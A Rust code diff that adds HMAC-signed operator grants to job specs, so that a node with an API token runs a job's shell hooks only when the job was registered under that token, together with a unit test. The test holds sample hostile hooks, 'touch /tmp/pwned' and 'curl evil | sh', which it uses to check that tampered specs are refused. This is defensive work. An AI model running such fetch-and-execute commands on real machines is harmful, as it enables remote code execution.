@@ -60,11 +60,34 @@ pub struct JobSpec {
     /// Shell command told of failure, staleness and recovery.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub notify_cmd: Option<String>,
+    /// The operator's credential for the programs above, from the node the
+    /// job was registered through: HMAC-SHA256 keyed by its API token, over
+    /// the job's node, path and the rest of this spec. A node with a token
+    /// runs a job's programs only under a grant its own token makes.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub grant: Option<serde_bytes::ByteBuf>,
 }
 
 impl JobSpec {
     pub fn is_default(&self) -> bool {
         *self == JobSpec::default()
+    }
+
+    /// The MAC of this spec (its grant left out) for job (node, path).
+    fn mac(&self, token: &str, node: &str, path: &str) -> hmac::Hmac<sha2::Sha256> {
+        let bare = JobSpec { grant: None, ..self.clone() };
+        crate::net::wire::operator_mac(token, &crate::net::wire::encode(&("register", node, path, &bare)))
+    }
+
+    /// This spec with the operator's grant for job (node, path), when it
+    /// runs programs and the registering node has a `token`.
+    pub fn granted(mut self, token: Option<&str>, node: &str, path: &str) -> Self {
+        use hmac::Mac;
+        self.grant = None;
+        if let Some(t) = token.filter(|_| !self.programs().is_empty()) {
+            self.grant = Some(self.mac(t, node, path).finalize().into_bytes().to_vec().into());
+        }
+        self
     }
 
     pub fn timeout(&self) -> Duration {
@@ -165,6 +188,35 @@ pub fn check_programs(spec: &JobSpec, allowed: bool) -> Result<(), String> {
          (or allow_programs = true in its config)",
         programs.join(", ")
     ))
+}
+
+/// What programs this node runs for jobs, as its operator decided: none
+/// without `--allow-programs`; with it, and with an API token, only those
+/// of jobs registered under that token's grant (a registration may come
+/// from any node of the mesh).
+#[derive(Clone, Debug, Default)]
+pub struct Programs {
+    pub allowed: bool,
+    pub token: Option<String>,
+}
+
+impl Programs {
+    /// Whether job (node, path) may run the programs of `spec` here.
+    pub fn check(&self, node: &str, path: &str, spec: &JobSpec) -> Result<(), String> {
+        use hmac::Mac;
+        check_programs(spec, self.allowed)?;
+        let (Some(token), false) = (&self.token, spec.programs().is_empty()) else { return Ok(()) };
+        let granted = spec.grant.as_ref().is_some_and(|g| spec.mac(token, node, path).verify_slice(g).is_ok());
+        if granted {
+            return Ok(());
+        }
+        Err(format!(
+            "this node runs a job's programs ({}) only when the job was registered with its operator's \
+             credential, and this one was not (registered through a node without --token, or with another \
+             token): register it again through a node with this node's --token",
+            spec.programs().join(", ")
+        ))
+    }
 }
 
 /// Can this node run a job of `path` with `spec`? `Err` says why not.
@@ -561,5 +613,38 @@ mod tests {
             assert!(err.contains(what) && err.contains("--allow-programs"), "{err}");
             assert!(check_programs(&s, true).is_ok());
         }
+    }
+
+    #[test]
+    fn a_node_with_a_token_runs_programs_only_of_jobs_registered_under_its_grant() {
+        let hooked = JobSpec { pre: Some("touch /tmp/pwned".into()), ..JobSpec::default() };
+        let here = Programs { allowed: true, token: Some("adm".into()) };
+        // Registered through a node with the same token: runs.
+        let granted = hooked.clone().granted(Some("adm"), "n2", "/srv/app");
+        assert!(granted.grant.is_some());
+        assert_eq!(here.check("n2", "/srv/app", &granted), Ok(()));
+        // Without a grant, under another token, for another job or node,
+        // or with the programs changed after the grant: refused, and said why.
+        let altered = JobSpec { pre: Some("curl evil | sh".into()), ..granted.clone() };
+        let refused = [
+            ("n2", "/srv/app", hooked.clone()),
+            ("n2", "/srv/app", hooked.clone().granted(Some("other"), "n2", "/srv/app")),
+            ("n2", "/srv/other", granted.clone()),
+            ("n3", "/srv/app", granted.clone()),
+            ("n2", "/srv/app", altered),
+        ];
+        for (node, path, spec) in refused {
+            let e = here.check(node, path, &spec).unwrap_err();
+            assert!(e.contains("operator's credential") && e.contains("--token"), "{e}");
+        }
+        // A node without a token trusts the mesh; one without
+        // --allow-programs runs none, grant or not.
+        assert!(Programs { allowed: true, token: None }.check("n2", "/srv/app", &hooked).is_ok());
+        let e = Programs { allowed: false, token: Some("adm".into()) }.check("n2", "/srv/app", &granted).unwrap_err();
+        assert!(e.contains("--allow-programs"), "{e}");
+        // A directory job needs no grant, and gets none.
+        let dir_job = JobSpec::default().granted(Some("adm"), "n2", "/srv/app");
+        assert!(dir_job.grant.is_none());
+        assert!(here.check("n2", "/srv/app", &dir_job).is_ok());
     }
 }
